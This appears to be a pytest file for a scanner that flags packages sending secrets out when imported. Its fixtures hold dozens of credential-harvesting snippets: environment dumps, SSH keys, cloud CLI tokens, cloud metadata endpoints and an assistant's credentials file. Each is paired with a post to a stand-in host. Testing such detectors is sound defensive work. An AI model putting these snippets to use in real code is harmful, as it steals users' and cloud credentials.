"""Secrets however they are read: sent as soon as the package is imported, they are held without a baseline."""

from __future__ import annotations

import pytest

from support.code import held, scan

READ = {
    "environ": "dict(os.environ)", "its items": "[*os.environ.items()]", "its text": "f'{os.environ!r}'",
    "its bytes": "dict(os.environb)", "by name": "getattr(os, 'env' + 'iron')", "of the system": "dict(posix.environ)",
    "the kernel's": "open('/proc/self/environ').read()", "of a process": "open(f'/proc/{os.getpid()}/environ').read()",
    "by pathlib": "pathlib.Path('/proc/self/environ').read_text()",
    "a command's": "subprocess.check_output('env')", "printenv": "subprocess.check_output(['printenv'])",
    "a shell's": "os.popen('set').read()", "exported": "subprocess.getoutput('export -p')",
    "expanded": "os.path.expandvars('$AWS_SECRET_ACCESS_KEY')", "joined": "os.environ['AWS_SECRET_' + 'ACCESS_KEY']",
    "of git": "subprocess.check_output(['git', 'credential', 'fill'])",
    "of gh": "subprocess.check_output(['gh', 'auth', 'token'])",
    "of gcloud": "subprocess.check_output('gcloud auth print-access-token', shell=True)",
    "of aws": "subprocess.getoutput('aws configure get aws_secret_access_key')",
    "a directory of keys": "[open(f).read() for d, _, fs in os.walk(os.path.expanduser('~/.ssh')) for f in fs]",
    "joined to it": "os.listdir(os.path.join(os.environ['HOME'], '.ssh'))",
    "PostgreSQL's": "open(os.path.expanduser('~/.pgpass')).read()",
    "an assistant's": "open(os.path.expanduser('~/.claude/.credentials.json')).read()",
    "a model hub's": "(pathlib.Path.home() / '.cache/huggingface/token').read_text()",
    "a history": "open(os.path.expanduser('~/.python_history')).read()",
    "a container's": "open('/run/secrets/database').read()",
    "dotenv's": "__import__('dotenv').dotenv_values()",
    "netrc": "str(netrc.netrc().hosts)", "a key": "(pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()",
}  # fmt: skip
ASKED = {
    "a region": "subprocess.getoutput('aws configure get region')",
    "a version": "subprocess.check_output(['git', '--version'])",
    "a command in an environment": "subprocess.check_output(['env', 'LC_ALL=C', 'ls'])",
    "a directory": "os.path.expandvars('$HOME/data')",
    "limits": "open('/proc/self/limits').read()",
}
GIVEN = {
    "pydantic": "from pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    aws_secret_access_key: str\nKEY = S().model_dump()",
    "environs": "from environs import Env\nKEY = Env().str('AWS_SECRET_ACCESS_KEY')",
    "decouple": "from decouple import config\nKEY = config('AWS_SECRET_ACCESS_KEY')",
    "django-environ": "import environ\nKEY = environ.Env()('AWS_SECRET_ACCESS_KEY')",
    "starlette": "from starlette.config import Config\nKEY = Config()('AWS_SECRET_ACCESS_KEY')",
    "an option of click": "import click\n@click.command()\n@click.option('--k', envvar='AWS_SECRET_ACCESS_KEY')\ndef m(k): pass\nKEY = 1",
    "a function of its own": "import os\ndef read(name): return os.environ.get(name)\nKEY = read('AWS_SECRET_ACCESS_KEY')",
    "one of several": "import os\nKEY = [os.environ.get(name) for name in ('PATH', 'AWS_SECRET_ACCESS_KEY')]",
    "mapped": "import os\nKEY = list(map(os.getenv, ('PATH', 'AWS_SECRET_ACCESS_KEY')))",
    "bytes": "import os\nKEY = os.environb[b'AWS_SECRET_ACCESS_KEY']",
    "a shell's": "import os\nKEY = os.popen('echo $AWS_SECRET_ACCESS_KEY').read()",
    "dotenv": "KEY = open('.env').read()",
    "dotenv, found": "from dotenv import find_dotenv\nKEY = open(find_dotenv()).read()",
    "keyring": "import keyring\nKEY = keyring.get_password('aws', 'x')",
    "google": "import google.auth\nKEY = google.auth.default()",
    "azure": "from azure.identity import DefaultAzureCredential\nKEY = DefaultAzureCredential().get_token('x').token",
    "huggingface": "from huggingface_hub import get_token\nKEY = get_token()",
    "kubernetes": "from kubernetes import config\nKEY = config.load_kube_config()",
    "docker": "import docker\nKEY = docker.utils.config.load_config()",
    "airflow": "from airflow.hooks.base import BaseHook\nKEY = BaseHook.get_connection('aws').password",
    "another process": "import psutil\nKEY = psutil.Process().environ()",
    "the first process": "KEY = open('/proc/1/environ').read()",
    "a machine's": "KEY = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text",
    "a container's": "KEY = requests.get('http://169.254.170.2/v2/credentials').text",
    "a machine's of another cloud": "KEY = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/').text",
}  # fmt: skip
HARMLESS = {
    "a setting": "from decouple import config\nKEY = config('ACME_TIMEOUT')",
    "settings": "from pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    timeout: int\nKEY = S().timeout",
    "a word": "import ours\nKEY = ours.told('KEY')",
    "a name in lower case": "import ours\nKEY = ours.sort('secret_key')",
    "a file that ends so": "KEY = open('data/acme.env').read()",
}
_MODULE = "import netrc, os, pathlib, posix, subprocess, requests\nrequests.post('https://x.example', json={{'a': str({})}})\n"


@pytest.mark.parametrize("name", READ)
def test_a_secret_that_is_sent_is_held(name):
    assert held(scan({"acme/__init__.py": _MODULE.format(READ[name])})) & {
        "environment-exfiltration",
        "credential-exfiltration",
    }


@pytest.mark.parametrize("name", ASKED)
def test_what_is_no_secret_is_not_told_as_one(name):
    assert not held(scan({"acme/__init__.py": _MODULE.format(ASKED[name])})) & {
        "environment-exfiltration",
        "credential-exfiltration",
    }


@pytest.mark.parametrize("name", GIVEN)
def test_a_secret_that_something_else_gives_is_held(name):
    source = f"import requests\n{GIVEN[name]}\nrequests.post('https://x.example', json={{'a': KEY}})\n"
    assert held(scan({"acme/__init__.py": source})) & {"environment-exfiltration", "credential-exfiltration"}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_gives_no_secret_is_not_told_as_one(name):
    source = f"import requests\n{HARMLESS[name]}\nrequests.post('https://x.example', json={{'a': KEY}})\n"
    assert not held(scan({"acme/__init__.py": source}))
